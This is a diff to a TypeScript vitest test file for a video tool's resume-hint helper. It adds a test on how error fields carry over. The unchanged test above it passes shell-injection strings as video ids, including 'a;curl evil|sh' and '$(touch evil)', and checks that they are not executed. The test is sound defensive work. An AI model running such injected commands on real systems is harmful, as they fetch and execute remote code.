@@ -1,6 +1,7 @@
 import { execFileSync } from "node:child_process";
 import { expect, test } from "vitest";
-import { formatResumeHint } from "../../src/jobs/resume-hint.ts";
+import { ShowreelError } from "../../src/base/errors.ts";
+import { formatResumeHint, withResumeHint } from "../../src/jobs/resume-hint.ts";
 
 test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
   "a shell reads the command that resumes %j as flags and the id, and runs nothing else",
@@ -14,3 +15,27 @@ test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"
     expect(argv).toEqual(["--provider", "heygen", "--video-id", id]);
   },
 );
+
+test("the resume hint keeps every fact of an error, but not that nothing was submitted", () => {
+  const job = { provider: "heygen", surface: "video", ids: { video_id: "v_1" } };
+  const error = new ShowreelError("rate_limited", "Too many requests.", {
+    hint: "Run again later.",
+    submitted: false,
+    retryable: true,
+    retryAfterMs: 5_000,
+    location: { file: "video.md", line: 3 },
+  });
+  const { code, hint, submitted, retryable, retryAfterMs, location } = withResumeHint(
+    error,
+    job,
+    true,
+  ) as ShowreelError;
+  expect(hint).toMatch(/^Run again later\. The video is paid for\./);
+  expect({ code, submitted, retryable, retryAfterMs, location }).toEqual({
+    code: "rate_limited",
+    submitted: undefined,
+    retryable: true,
+    retryAfterMs: 5_000,
+    location: { file: "video.md", line: 3 },
+  });
+});
